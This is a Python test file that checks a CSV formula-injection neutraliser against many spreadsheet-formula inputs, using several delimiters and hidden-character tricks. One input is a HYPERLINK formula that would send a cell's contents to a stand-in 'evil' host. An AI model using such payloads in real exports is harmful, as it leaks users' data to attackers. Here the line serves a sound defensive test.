"""Cells that a spreadsheet would take for formulas, however it divides a line into cells."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from console.exchange.csv_cells import bare, neutral

_HIDDEN = "\ufeff\u200b\x0b\x00\u2060\xad\ufe0f\u202e"


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1", "+1", "-1", "@x", "＝1+1", "＋1", "－1", "＠x", "'=1", "\ufeff=1", "\u200b=1",
        "\x0b=1", "\x00=1", "\u200b\ufeff'=1", "@shop lost;=1", "lost\t=1", "lost|=1", "lost\n=1",
        "lost\r\n=1", 'lost;"=1', "lost;\u200b=1", "lost;＝1", ";=1", "\t;=1", "a\u2028=1",
        '@shop lost;=HYPERLINK("http://evil/?"&A1;"x")',
    ],
)  # fmt: skip
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_cell_is_a_formula_wherever_a_line_is_divided(cell: str, delimiter: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerow([neutral(cell), "2"])
    written = io.StringIO(out.getvalue(), newline="")
    plain = [part for line in out.getvalue().splitlines() for part in line.split(delimiter)]
    rows = csv.reader((line.replace("\0", "") for line in written), delimiter=delimiter)
    for part in [*plain, *(each for row in rows for each in row)]:
        assert part.lstrip(_HIDDEN + '"')[:1] not in tuple("=+-@＝＋－＠"), part
    assert bare(neutral(cell)) == cell


@pytest.mark.parametrize("cell", ["", "a = b", "a;b", "e-mail; a+b", "it's", "'quoted'", "5 - 3"])
def test_any_other_text_stays(cell: str) -> None:
    assert neutral(cell) == cell


@given(st.text(alphabet="'=+-@|%,;\"\n\t\r ab＝\u200b\x0b\ufeff"))
def test_what_was_made_harmless_is_had_back(cell: str) -> None:
    assert bare(neutral(cell)) == cell
    assert bare(neutral(neutral(cell))) == neutral(cell)
